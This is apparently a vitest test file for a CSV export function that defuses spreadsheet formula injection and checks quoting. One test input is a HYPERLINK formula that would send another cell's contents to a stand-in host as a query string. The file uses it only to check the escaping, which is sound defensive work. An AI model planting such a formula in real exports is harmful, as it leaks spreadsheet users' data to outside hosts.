import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv';

describe('CSV for spreadsheets', () => {
  it.each([
    ['=HYPERLINK("http://x.test/leak?"&D3,"Click")', `"'=HYPERLINK(""http://x.test/leak?""&D3,""Click"")"`],
    ['+52 55 1000', "'+52 55 1000"],
    ['-1+1', "'-1+1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['Ana', 'Ana'],
    ['Pérez, Ana', '"Pérez, Ana"'],
    ['a "quoted" name', '"a ""quoted"" name"'],
    ['two\nlines', '"two\nlines"'],
  ])('writes %j as %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('leaves numbers and empty cells alone', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('keeps a carriage return inside its cell: a parser reads back exactly the rows written', () => {
    const names = ['Ana', 'Evil\rname,with "quotes"', 'Line\r\nbreak', '=1+1'];
    const text = toCsv(
      ['name', 'url'],
      names.map((name, i) => [name, `http://localhost/x/${i}`]),
    );
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = parse<{ name: string; url: string }>(text, { columns: true });
    expect(rows.map((r) => r.url)).toEqual(names.map((_, i) => `http://localhost/x/${i}`));
    expect(rows.map((r) => r.name)).toEqual(['Ana', 'Evil\rname,with "quotes"', 'Line\r\nbreak', "'=1+1"]);
  });
});
